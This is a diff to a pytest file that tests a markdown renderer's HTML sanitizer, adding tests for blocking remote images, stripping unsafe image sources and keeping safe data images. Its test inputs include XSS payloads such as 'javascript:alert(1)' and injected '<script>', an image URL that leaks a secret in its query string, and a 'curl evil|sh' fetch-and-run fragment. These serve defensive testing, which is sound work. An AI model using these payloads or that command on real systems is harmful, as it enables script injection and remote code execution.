@@ -5,6 +5,7 @@ from __future__ import annotations
 import html
 import re
 from html.parser import HTMLParser
+from typing import Any
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -15,6 +16,7 @@ from plan_widgets.render import engine
 from plan_widgets.render.engine import renderer
 from plan_widgets.render.markdown import (
     NO_MATH,
+    WRAP_STYLE,
     escape,
     html_block,
     markdown_bundle,
@@ -53,6 +55,16 @@ def url_scheme(value: str) -> str | None:
     return m.group(1).lower() if m else None
 
 
+DATA_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*")
+
+
+def loads_remotely(src: str) -> bool:
+    """Whether a browser loads ``src`` from a server other than the page's (by default the
+    render path loads no such image)."""
+    cleaned = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(src)).replace("\\", "/")
+    return cleaned.startswith("//") or url_scheme(src) not in (None, "data")
+
+
 class _Checker(HTMLParser):
     def __init__(self) -> None:
         super().__init__(convert_charrefs=True)
@@ -68,7 +80,11 @@ class _Checker(HTMLParser):
                 self.problems.append(f"<{tag} {name}=...>")
             if name in URL_ATTRS and value is not None:
                 scheme = url_scheme(value)
-                if scheme is not None and scheme not in SAFE_SCHEMES:
+                if tag == "img" and name == "src" and loads_remotely(value):
+                    self.problems.append(f"<img src={value!r}> (loads from another server)")
+                elif tag == "img" and name == "src" and DATA_IMAGE.fullmatch(value):
+                    pass  # a raster data: image (no script runs in one)
+                elif scheme is not None and scheme not in SAFE_SCHEMES:
                     self.problems.append(f"<{tag} {name}={value!r}>")
             if name == "style":
                 self.problems.append(f"<{tag} style=...>")
@@ -220,10 +236,22 @@ def test_unsafe_links_are_not_links(src: str) -> None:
     assert "<a" not in render_html(src)
 
 
-@pytest.mark.parametrize("src", ["![x](javascript:alert(1))", "![x](data:image/png;base64,AA)"])
+@pytest.mark.parametrize("src", [
+    "![x](javascript:alert(1))", "![x](data:image/svg+xml;base64,AA)",
+    "![x](data:text/html;base64,AA)", "![x](data:image/png,AA)",
+    "![x](data:image/png;base64,AA<script>)",
+    "![x](data:image/png;base64," + "A" * 1_000_000 + ")"])  # over engine.DATA_IMAGE_LIMIT
 def test_unsafe_images_have_no_source(src: str) -> None:
     out = render_html(src)
     assert "<img" not in out
+    assert ">x<" in out  # the alt text stays
+
+
+def test_a_data_image_of_sane_size_renders() -> None:
+    src = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
+    out = render_html(f"a plot: ![plot]({src})")
+    assert f'<img src="{src}" alt="plot"' in out
+    assert_inert(out)
 
 
 def test_raw_html_is_shown_as_text() -> None:
@@ -341,9 +369,54 @@ def test_safe_links_survive(src: str, href: str) -> None:
     assert_inert(out)
 
 
-def test_safe_image_survives() -> None:
-    out = render_html("![alt](https://example.com/x.png)")
-    assert '<img src="https://example.com/x.png" alt="alt"' in out
+def test_a_relative_image_survives() -> None:
+    out = render_html("![alt](img/x.png)")
+    assert '<img src="img/x.png" alt="alt"' in out
+
+
+# -- remote images: not loaded unless allowed (issue 25) -------------------------------------
+
+
+@pytest.fixture
+def remote_images() -> Any:
+    yield engine.allow_remote_images
+    engine.allow_remote_images(False)
+
+
+@pytest.mark.parametrize("src, href, host", [
+    ("![alt](https://example.com/x.png?d=secret)", "https://example.com/x.png?d=secret",
+     "example.com"),
+    ("![alt](http://Example.COM:8080/x.png 'title')", "http://Example.COM:8080/x.png",
+     "example.com"),
+    ("![alt](//example.com/x.png)", "//example.com/x.png", "example.com"),
+    ("![alt][r]\n\n[r]: https://example.com/r.png", "https://example.com/r.png",
+     "example.com"),
+])
+def test_a_remote_image_is_a_link_naming_its_host(src: str, href: str, host: str) -> None:
+    out = render_html(src)
+    assert "<img" not in out
+    assert f'<a href="{href}">alt (image from {host}, not loaded)</a>' in out
+    assert_inert(out)
+
+
+def test_a_remote_image_inside_a_link_is_text_in_that_link() -> None:
+    out = render_html("[![badge](https://img.example.com/b.svg)](https://example.com/ci)")
+    assert "<img" not in out
+    assert '<a href="https://example.com/ci">badge (image from img.example.com, not loaded)' \
+        "</a>" in out
+    assert out.count("<a ") == 1
+
+
+def test_remote_images_load_when_allowed(remote_images: Any) -> None:
+    src = "![a](https://example.com/a.png) ![b](https://other.org/b.png)"
+    remote_images(["Example.com"])
+    out = render_html(src)
+    assert '<img src="https://example.com/a.png" alt="a"' in out
+    assert "b (image from other.org, not loaded)" in out
+    remote_images(True)
+    assert render_html(src).count("<img ") == 2
+    remote_images(False)
+    assert "<img" not in render_html(src)
 
 
 # -- property: arbitrary mixes of hostile fragments and text --------------------------------
@@ -491,7 +564,8 @@ def test_set_html_turn_tool_view_has_no_raw_tex() -> None:
         assert "$" not in out and "\\" not in out, out
         assert "pw-html tex2jax_ignore mathjax_ignore" in out
         assert r"ls $\\phantom{;curl evil|sh;}$" in text_of(out)  # JSON doubles the \\
-        assert_inert(out)
+        assert out.count(f' style="{WRAP_STYLE}"') == 1  # the tool line's own (wrapping)
+        assert_inert(out.replace(f' style="{WRAP_STYLE}"', ""))
 
 
 def test_set_html_keeps_pre_line_breaks_of_every_kind() -> None:
